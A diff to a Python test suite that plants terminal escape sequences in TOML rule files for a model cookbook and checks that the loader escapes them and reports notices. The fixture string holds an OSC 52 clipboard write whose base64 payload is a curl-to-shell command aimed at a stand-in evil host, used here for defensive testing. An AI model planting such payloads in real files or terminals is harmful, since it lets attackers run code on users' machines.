@@ -25,13 +25,15 @@ EVIL = OSC52 + "\x9b\u202e"
 TOML_EVIL = "\\u001b]52;c;Y3VybCAtcyBodHRwczovL2V2aWwuZXhhbXBsZS94IHwgc2gg\\u0007\\u009b\\u202e"
 RAW = re.compile("[\x00-\x08\x0b-\x1f\x7f-\x9f\u061c\u200e\u200f\u202a-\u202e\u2066-\u2069\u2028\u2029]")
 
-EDITS = {
-    'name = "DeepSeek-V4"': f'name = "DeepSeek-V4{TOML_EVIL}"',
-    'label = "H200"': f'label = "H200{TOML_EVIL}"',
-    'pick_when = "good speed with several': f'pick_when = "{TOML_EVIL}good speed with several',
-    'text = "Speculative decoding (MTP) is on:': f'text = "{TOML_EVIL}Speculative decoding (MTP) is on:',
-    'label = "Bind host"': f'label = "Bind host{TOML_EVIL}"',
-    'text = "H100 has no FP8 path': f'text = "{TOML_EVIL}H100 has no FP8 path',
+EDITS = {  # (file, text) -> text: the page's facts are in cookbook.toml, the hand-kept ones in model.toml
+    ("cookbook.toml", 'name = "DeepSeek-V4"'): f'name = "DeepSeek-V4{TOML_EVIL}"',
+    ("model.toml", 'label = "H200"'): f'label = "H200{TOML_EVIL}"',
+    ("model.toml", 'pick_when = "good speed with several'): f'pick_when = "{TOML_EVIL}good speed with several',
+    ("model.toml", 'text = "Speculative decoding ({label}) is on —'): (
+        f'text = "{TOML_EVIL}Speculative decoding ({{label}}) is on —'
+    ),
+    ("cookbook.toml", 'label = "Bind host"'): f'label = "Bind host{TOML_EVIL}"',
+    ("model.toml", 'text = "H100 has no FP8 path'): f'text = "{TOML_EVIL}H100 has no FP8 path',
 }
 
 
@@ -39,12 +41,11 @@ EDITS = {
 def evil_rules(tmp_path) -> Path:
     folder = tmp_path / "rules"
     shutil.copytree(ROOT / "rules", folder)
-    model = folder / "model.toml"
-    text = model.read_text(encoding="utf-8")
-    for old, new in EDITS.items():
+    for (name, old), new in EDITS.items():
+        path = folder / name
+        text = path.read_text(encoding="utf-8")
         assert old in text, old
-        text = text.replace(old, new, 1)
-    model.write_text(text, encoding="utf-8")
+        path.write_text(text.replace(old, new, 1), encoding="utf-8")
     return folder
 
 
@@ -55,7 +56,9 @@ def test_rules_texts_are_escaped_on_load_with_a_notice(evil_rules):
     assert rules.hardware("h200").label == "H200" + shown
     assert rules.model.placeholders["HOST_IP"].label == "Bind host" + shown
     notices = [n for n in rules.notices if "control characters shown as escapes" in n]
-    assert any(n.startswith(f"{evil_rules / 'model.toml'}:58: hardware[1].label:") for n in notices), notices
+    model = (evil_rules / "model.toml").read_text(encoding="utf-8").splitlines()
+    line = next(i for i, text in enumerate(model, 1) if text.startswith('label = "H200'))
+    assert any(n.startswith(f"{evil_rules / 'model.toml'}:{line}: hardware[1].label:") for n in notices), notices
     assert len(notices) == len(EDITS)
     again = load_rules(evil_rules)  # through the cache: the same escaped texts
     assert load_rules(evil_rules).hardware("h200").label == again.hardware("h200").label == "H200" + shown
@@ -89,9 +92,9 @@ def test_the_cli_prints_no_raw_escape_from_rules_text(evil_rules, argv):
 
 
 def test_a_placeholder_default_with_an_escape_is_rejected_and_the_error_is_escaped(evil_rules, capsys):
-    model = evil_rules / "model.toml"
-    model.write_text(
-        model.read_text(encoding="utf-8").replace('default = "0.0.0.0"', f'default = "0.0.0.0{TOML_EVIL}"'), "utf-8"
+    page = evil_rules / "cookbook.toml"
+    page.write_text(
+        page.read_text(encoding="utf-8").replace('default = "0.0.0.0"', f'default = "0.0.0.0{TOML_EVIL}"'), "utf-8"
     )
     assert cli.main(["--rules", str(evil_rules), "check"]) != 0
     err = capsys.readouterr().err
